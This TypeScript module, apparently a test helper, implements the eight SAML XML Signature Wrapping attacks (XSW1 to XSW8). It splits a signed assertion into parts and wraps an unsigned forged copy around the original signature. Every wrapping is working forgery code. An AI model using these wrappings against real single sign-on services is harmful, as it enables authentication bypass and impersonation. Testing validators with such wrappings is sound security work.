/**
 * The eight signature-wrapping attacks on assertions (Somorovsky et al., "On Breaking SAML", USENIX Security 2012, as
 * numbered by SAML Raider), on the content of wsse:Security.
 */

interface Parts {
  /** The signed assertion with its signature, and without. */
  readonly signed: string;
  readonly unsigned: string;
  readonly signature: string;
  /** What the attacker wants to be read; it is unsigned. */
  readonly evil: string;
}

/** `inner` as the last children of the assertion. */
const inside = (assertion: string, inner: string): string =>
  assertion.replace(/<\/saml2:Assertion>$/, () => `${inner}</saml2:Assertion>`);
const afterIssuer = (assertion: string, inner: string): string =>
  assertion.replace('</saml2:Issuer>', (issuer) => issuer + inner);
const inSignature = (signature: string, inner: string): string =>
  signature.replace('</ds:Signature>', () => `${inner}</ds:Signature>`);

export const WRAPPINGS: Readonly<Record<string, (parts: Parts) => string>> = {
  'XSW1: the original in the signature, the signature in the evil one': ({ signature, unsigned, evil }) =>
    afterIssuer(evil, inSignature(signature, unsigned)),
  'XSW2: the original and the signature side by side in the evil one': ({ signature, unsigned, evil }) =>
    inside(evil, unsigned + signature),
  'XSW3: the evil one before the original': ({ signed, evil }) => evil + signed,
  'XSW4: the original in the evil one': ({ signed, evil }) => inside(evil, signed),
  'XSW5: the signature in the evil one, the original behind it': ({ signature, unsigned, evil }) =>
    afterIssuer(evil, signature) + unsigned,
  'XSW6: the original in the signature in the evil one, at its end': ({ signature, unsigned, evil }) =>
    inside(evil, inSignature(signature, unsigned)),
  'XSW7: the evil one in an extension before the original': ({ signed, evil }) =>
    `<x:Extensions xmlns:x="urn:x">${evil}</x:Extensions>${signed}`,
  'XSW8: the original in an Object of the signature in the evil one': ({ signature, unsigned, evil }) =>
    afterIssuer(evil, inSignature(signature, `<ds:Object>${unsigned}</ds:Object>`)),
};

const SIGNATURE = /<ds:Signature .*<\/ds:Signature>/s;

/** A signed assertion in pieces, with one that says what `change` makes of it. */
export function partsOf(signed: string, change: (unsigned: string) => string): Parts {
  const [signature] = SIGNATURE.exec(signed)!;
  const unsigned = signed.replace(signature, '');
  return { signed, unsigned, signature, evil: change(unsigned) };
}
